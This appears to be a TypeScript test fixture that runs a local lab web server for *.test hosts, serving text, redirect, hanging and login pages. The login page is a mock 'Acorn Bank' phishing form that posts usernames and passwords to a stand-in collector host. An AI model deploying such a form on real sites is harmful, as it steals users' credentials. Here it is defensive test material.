import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import { once } from 'node:events';
import { writeFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';

/** A web of one server under *.test, with a lab map for it. What a path answers is the same for every host. */
export interface LabWeb {
  /** Emits nothing before it is asked: resolves when a request for `path` has come. */
  asked(path: string): Promise<void>;
  writeMap(file: string): void;
  close(): Promise<void>;
}

const pages: Readonly<Record<string, (request: IncomingMessage, response: ServerResponse) => void>> = {
  '/text': (_, response) => { response.setHeader('content-type', 'text/plain'); response.end('Nothing to see.\n'); },
  '/hop': (_, response) => { response.writeHead(302, { location: '/text' }).end(); },
  '/hang': () => undefined,
  '/login': (_, response) => {
    response.setHeader('content-type', 'text/html');
    response.end('<!doctype html><title>Acorn Bank</title><h1>Acorn Bank: sign in</h1><form method=post action="http://collector.test/take"><input name=user><input type=password name=pass><button>Sign in</button></form>');
  },
};

export const openLabWeb = async (): Promise<LabWeb> => {
  const waiting = new Map<string, () => void>();
  const server = createServer((request, response) => {
    const path = (request.url ?? '').split('?', 1)[0] ?? '';
    waiting.get(path)?.();
    const page = pages[path];
    if (page === undefined) response.writeHead(404).end();
    else page(request, response);
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo; // a TCP server that listens has one
  return {
    asked: (path) => new Promise((resolve) => { waiting.set(path, resolve); }),
    writeMap: (file) => { writeFileSync(file, `*.test 127.0.0.1:${port}\n`); },
    close: async () => {
      server.closeAllConnections();
      server.close();
      await once(server, 'close');
    },
  };
};
